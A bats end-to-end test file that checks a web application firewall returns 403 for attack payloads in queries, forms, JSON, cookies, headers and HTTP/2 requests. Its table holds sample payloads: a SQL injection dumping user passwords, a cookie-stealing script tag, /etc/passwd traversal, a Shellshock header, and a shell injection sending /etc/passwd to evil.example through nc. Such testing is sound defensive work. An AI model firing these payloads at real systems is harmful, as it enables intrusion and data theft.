# Attacks are refused wherever they stand, and the application never sees them.
load lib

setup_file() { start_stack "$BATS_FILE_TMPDIR/e2e"; }
teardown_file() { recall "$BATS_FILE_TMPDIR/e2e" && stop_stack; }
setup() { recall "$BATS_FILE_TMPDIR/e2e"; }
teardown() { logs_if_failed; }

# The table: name, then the attack as text.
attacks=(
  "sql-injection|1' UNION SELECT name, password FROM users-- -"
  "cross-site-scripting|<script>alert(document.cookie)</script>"
  "path-traversal|../../../../../../etc/passwd"
  "shell-injection|;cat /etc/passwd|nc evil.example 99"
)

# each_attack FUNCTION: calls it with a name and the attack's text, for every row; shows all
# that went wrong, not only the first.
each_attack() {
  local row failed=0
  for row in "${attacks[@]}"; do
    "$1" "$2-${row%%|*}" "${row#*|}" || failed=1
  done
  return "$failed"
}
refused() { # CASE CURL-ARGUMENT...
  local case=$1
  shift
  if expect 403 -H "X-Case: $case" "$@" && never_reached "$case"; then return; fi
  echo "not refused: $case"
  return 1
}

in_query() { refused "$1" -G --data-urlencode "q=$2" "$WEB/search"; }
in_form() { refused "$1" --data-urlencode "comment=$2" "$WEB/comment"; }
in_chunks() { refused "$1" -H 'Transfer-Encoding: chunked' --data-urlencode "comment=$2" "$WEB/comment"; }
# The rules look at headers for this shell injection alone: values with ; and | are common there.
in_header() {
  local text=$2
  [[ $1 != *shell* ]] || text='() { :;}; /bin/cat /etc/passwd'
  refused "$1" -H "User-Agent: $text" -H "Referer: $text" "$WEB/"
}
in_cookie() { refused "$1" -H "Cookie: basket=${2//;/%3b}" "$WEB/"; }
in_multipart() { refused "$1" --form-string "comment=$2" "$WEB/comment"; }
in_json() {
  refused "$1" -H 'Content-Type: application/json' \
    -d "$(jq -nc --arg text "$2" '{item: {comment: $text}}')" "$WEB/api"
}
in_query_over_http2() { refused "$1" --http2-prior-knowledge -G --data-urlencode "q=$2" "$WEB2/search"; }
# curl sends no content-length when it reads the body from a pipe.
in_form_over_http2() {
  local text
  text=$(jq -rn --arg text "$2" '$text | @uri')
  refused "$1" --http2-prior-knowledge -X POST -T - -H 'Content-Type: application/x-www-form-urlencoded' \
    "$WEB2/comment" < <(printf 'comment=%s' "$text")
}

@test "attacks in the query are refused" { each_attack in_query query; }
@test "attacks in a form are refused" { each_attack in_form form; }
@test "attacks in a chunked form are refused" { each_attack in_chunks chunks; }
@test "attacks in a multipart form are refused" { each_attack in_multipart multipart; }
@test "attacks in JSON are refused" { each_attack in_json json; }
@test "attacks in cookies are refused" { each_attack in_cookie cookie; }
@test "attacks in headers are refused" { each_attack in_header header; }
@test "attacks in the query are refused over HTTP/2" { each_attack in_query_over_http2 h2query; }
@test "attacks in a form without content-length are refused over HTTP/2" {
  each_attack in_form_over_http2 h2form
}

@test "a path that climbs is refused" {
  refused climb "$WEB/static/../../../../etc/passwd"
}

@test "a scanner is refused by its name" {
  refused scanner -A 'sqlmap/1.7' "$WEB/"
}
